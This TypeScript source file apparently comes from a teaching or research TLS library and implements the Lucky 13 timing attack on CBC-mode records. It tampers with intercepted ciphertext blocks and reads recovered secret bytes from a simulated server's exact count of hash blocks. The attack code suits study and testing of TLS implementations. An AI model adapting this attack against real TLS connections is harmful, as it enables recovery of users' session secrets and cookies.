/**
 * Lucky 13 (AlFardan and Paterson 2013). The MAC of a CBC record stands inside the encryption, so its length depends on the padding, and so does the
 * number of blocks that the hash has to process: 13 bytes of sequence number and header come in front, and with 55 bytes in all the inner hash of
 * HMAC-SHA-1 is finished one block earlier than with 56. Alert and words are the same for every fault; the time isn't.
 *
 * The attacker needs a clock that sees one step of a hash. Ours is exact: it counts the steps.
 */

import { concat, concatAll } from '@cleartext/core';
import type { Hash, Hasher } from '@cleartext/hash';
import { CONTENT_TYPE, encodeRecord } from '../record/record.ts';
import type { Line, OnTheWire } from './line.ts';
import { recordsIn } from './recording.ts';

/** A hash function that counts how often it compresses a block: a clock that no other program disturbs. */
export interface CountedHash {
  readonly hash: Hash;
  readonly blocks: () => number;
}

/** The same hash function with a counter. Leaks: the lengths of all messages, which is what it is for. */
export function countBlocks(hash: Hash): CountedHash {
  let blocks = 0;
  const finish = (length: number): void => {
    blocks += Math.ceil((length + 9) / hash.blockSize) - Math.floor(length / hash.blockSize);
  };
  const counted = (inner: Hasher, start: number): Hasher => {
    let length = start;
    const self: Hasher = {
      update(bytes) {
        blocks += Math.floor((length + bytes.length) / hash.blockSize) - Math.floor(length / hash.blockSize);
        length += bytes.length;
        inner.update(bytes);
        return self;
      },
      digest() {
        finish(length);
        return inner.digest();
      },
      copy: () => counted(inner.copy(), length),
    };
    return self;
  };
  const create = (): Hasher => counted(hash.create(), 0);
  const counting = (message: Uint8Array): Uint8Array => create().update(message).digest();
  // A function's own name can't be assigned, only defined.
  for (const [key, value] of Object.entries({ ...hash, create })) Object.defineProperty(counting, key, { value });
  return { hash: counting as unknown as Hash, blocks: () => blocks };
}

/** A browser that repeats a request on new connections, and a server whose hash the attacker's clock counts. */
export interface Lucky13Victim {
  /** Opens a connection, sends path and secret, and gives what the server's clock counted while it worked on the request. */
  readonly request: (path: Uint8Array, onTheWire: OnTheWire) => { readonly line: Line; readonly blocks: number };
}

/** What the attacker learned, and from how many connections. */
export interface Lucky13Result {
  readonly secret: Uint8Array;
  readonly questions: number;
}

const BLOCK = 16;

/**
 * The attack. `before` is the number of bytes in front of the path, and the two bytes behind it are known: `mark`. It finds the `length` bytes
 * of the secret behind them one after the other, each with at most one connection for each byte of `candidates`. Gives up on a byte for which
 * no guess stands out.
 */
export function lucky13(
  victim: Lucky13Victim,
  { before, mark, length }: { readonly before: number; readonly mark: Uint8Array; readonly length: number },
  candidates: Uint8Array = Uint8Array.from({ length: 256 }, (_, byte) => byte),
): Lucky13Result {
  let known = mark;
  let questions = 0;
  for (let i = 0; i < length; i++) {
    // The next byte of the secret is the last of a block, and the byte before it is known.
    const path = new Uint8Array(BLOCK + ((2 * BLOCK - ((before + mark.length + i + 1) % BLOCK)) % BLOCK)).fill(0x41);
    const end = before + path.length + mark.length + i + 1;
    const found = findByte(victim, path, end, known.at(-1)!, candidates);
    questions += found.questions;
    if (found.byte === undefined) break;
    known = concat(known, Uint8Array.of(found.byte));
  }
  return { secret: known.slice(mark.length), questions };
}

/**
 * A record of four blocks whose last is the target: with two bytes 01 at its end 55 bytes are hashed, with anything else 56 or 57. Both bytes are
 * turned into 01 by a change of the block before; the guess of the last byte decides whether it works.
 */
function findByte(
  victim: Lucky13Victim,
  path: Uint8Array,
  end: number,
  byteBefore: number,
  candidates: Uint8Array,
): { readonly byte: number | undefined; readonly questions: number } {
  const counts = new Map<number, number[]>();
  let questions = 0;
  for (const guess of candidates) {
    questions++;
    const { blocks } = victim.request(path, (bytes, from) => {
      const records = recordsIn(bytes);
      const last = records.at(-1);
      if (from !== 'client' || last?.type !== CONTENT_TYPE.application_data) return bytes;
      // The explicit IV is the first block, so the block that ends at `end` has the number end / 16.
      const target = last.fragment.slice(end, end + BLOCK);
      const previous = last.fragment.slice(end - BLOCK, end);
      previous[BLOCK - 2] ^= byteBefore ^ 1;
      previous[BLOCK - 1] ^= guess ^ 1;
      const filling = last.fragment.slice(0, 3 * BLOCK);
      return encodeRecord(last.type, last.version, concatAll([filling, previous, target]));
    });
    counts.set(blocks, [...(counts.get(blocks) ?? []), guess]);
    // Two kinds of counts, and one of them seen once: that one stands out.
    if (counts.size === 2 && questions > 2) break;
  }
  const [byte] = [...counts.values()].find((guesses) => guesses.length === 1) ?? [];
  return { byte: counts.size === 2 ? byte : undefined, questions };
}
